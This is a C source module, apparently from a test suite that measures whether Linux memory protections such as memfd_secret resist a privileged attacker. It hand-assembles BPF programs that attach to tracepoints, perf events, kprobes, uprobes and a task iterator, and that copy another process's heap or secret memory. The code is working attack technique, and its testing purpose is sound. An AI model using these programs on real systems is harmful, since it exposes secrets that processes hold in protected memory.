/*
 * bpf.c - BPF programs of another root that read the victim's memory inside the kernel: in the victim's own context
 * also the contents of memfd_secret.
 */
#include "../attack.h"
#include "../lib/bpf.h"

#include <linux/perf_event.h>
#include <sys/ioctl.h>

enum { WAIT_MS = 2000, STEP_MS = 50 };

/* Loads a program that copies the secret into a map, a->fd: its descriptor, or -errno. */
static int load_reader(struct attack *a, enum bpf_prog_type type)
{
	unsigned long long address = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
	struct code code = { .count = 0 };

	if (address == 0)
		return -EOPNOTSUPP; /* no memfd_secret */
	a->fd = make_map("copy", BPF_MAP_TYPE_ARRAY, DIGEST_MOST);
	if (a->fd < 0)
		return a->fd;
	emit_theft(&code, a->target.pid, a->fd, address, a->target.length);
	return load_code(&code, type, 0, 0);
}

static int attach_to_calls(int program)
{
	union bpf_attr open = { .raw_tracepoint = { .name = (uintptr_t)"sys_enter", .prog_fd = (unsigned)program } };

	return bpf_call(BPF_RAW_TRACEPOINT_OPEN, &open);
}

static int attach_to_event(struct perf_event_attr *event, pid_t pid, int cpu, int program)
{
	int fd;

	event->size = sizeof(*event);
	fd = (int)syscall(SYS_perf_event_open, event, pid, cpu, -1, PERF_FLAG_FD_CLOEXEC);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, program) < 0 || ioctl(fd, PERF_EVENT_IOC_ENABLE, 0) < 0)
		return -errno;
	return fd;
}

static int attach_to_switches(const struct attack *a, int program)
{
	struct perf_event_attr event = { .type = PERF_TYPE_SOFTWARE, .config = PERF_COUNT_SW_CONTEXT_SWITCHES,
					 .sample_period = 1 };

	return attach_to_event(&event, a->target.pid, -1, program);
}

static int attach_to_probe(const struct attack *a, int program)
{
	int is_user = a->row->number == AT_UPROBE, failed;
	struct perf_event_attr event = { .sample_period = 1 };
	char type[16];

	failed = get_text(is_user ? "/sys/bus/event_source/devices/uprobe/type" :
				    "/sys/bus/event_source/devices/kprobe/type", type, sizeof(type));
	if (failed < 0)
		return failed;
	event.type = (uint32_t)atoi(type);
	event.config1 = is_user ? (uintptr_t)a->target.exe : (uintptr_t)ARCH_PROBE_SYSCALL;
	event.config2 = is_user ? a->target.nap : 0;
	return attach_to_event(&event, -1, 0, program);
}

int attach_bpf(struct attack *a)
{
	static const enum bpf_prog_type types[] = { [AT_CALLS] = BPF_PROG_TYPE_RAW_TRACEPOINT,
						    [AT_SWITCHES] = BPF_PROG_TYPE_PERF_EVENT,
						    [AT_KPROBE] = BPF_PROG_TYPE_KPROBE,
						    [AT_UPROBE] = BPF_PROG_TYPE_KPROBE };
	int program = load_reader(a, types[a->row->number]), link;

	if (program < 0)
		return program;
	if (a->row->number == AT_CALLS)
		link = attach_to_calls(program);
	else
		link = (a->row->number == AT_SWITCHES ? attach_to_switches : attach_to_probe)(a, program);
	return link < 0 ? link : 0;
}

/* What the program copied before protection does not count. */
int await_bpf(struct attack *a)
{
	unsigned char copy[DIGEST_MOST] = { 0 };
	int failed = set_map_value(a->fd, 0, copy);

	if (failed < 0)
		return failed;
	for (int waited = 0; waited < WAIT_MS; waited += STEP_MS) {
		pause_ms(STEP_MS);
		if (map_value(a->fd, 0, copy) == 0 && saw(a, copy, sizeof(copy)) == LEAKED)
			return LEAKED;
	}
	return ALLOWED;
}

static void emit_walk(struct code *code, const struct attack *a)
{
	int length = (int)a->target.length;

	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 6, 1, 8, 0); /* the task; none at the end */
	emit(code, BPF_JMP | BPF_JEQ | BPF_K, 6, 0, 16, 0);
	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 7, 1, 0, 0);
	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 7, 7, 0, 0); /* meta->seq */
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0);
	emit(code, BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -DIGEST_MOST);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, length);
	emit_address(code, 3, 0, a->target.heap);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 4, 6, 0, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 5, 0, 0, 0);
	emit(code, BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_copy_from_user_task);
	emit(code, BPF_JMP | BPF_JNE | BPF_K, 0, 0, 5, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 1, 7, 0, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0);
	emit(code, BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -DIGEST_MOST);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 3, 0, 0, length);
	emit(code, BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_seq_write);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0);
	emit(code, BPF_JMP | BPF_EXIT, 0, 0, 0, 0);
}

/* An iterator over all tasks that prints the bytes that each has at the secret's address. */
int iterate_tasks(struct attack *a)
{
	union bpf_attr link = { .link_create = { .attach_type = BPF_TRACE_ITER } }, open = { 0 };
	struct code code = { .count = 0 };
	int id = btf_function("bpf_iter_task"), fd;

	if (id < 0)
		return id == -ESRCH ? not_here(a, "no task iterator") : id;
	emit_walk(&code, a);
	fd = load_code(&code, BPF_PROG_TYPE_TRACING, BPF_TRACE_ITER, (unsigned)id);
	if (fd == -EINVAL)
		return not_here(a, "no bpf_copy_from_user_task");
	if (fd < 0)
		return fd;
	link.link_create.prog_fd = (unsigned)fd;
	fd = bpf_call(BPF_LINK_CREATE, &link);
	if (fd < 0)
		return fd;
	open.iter_create.link_fd = (unsigned)fd;
	fd = bpf_call(BPF_ITER_CREATE, &open);
	return fd < 0 ? fd : saw_file(a, fd);
}
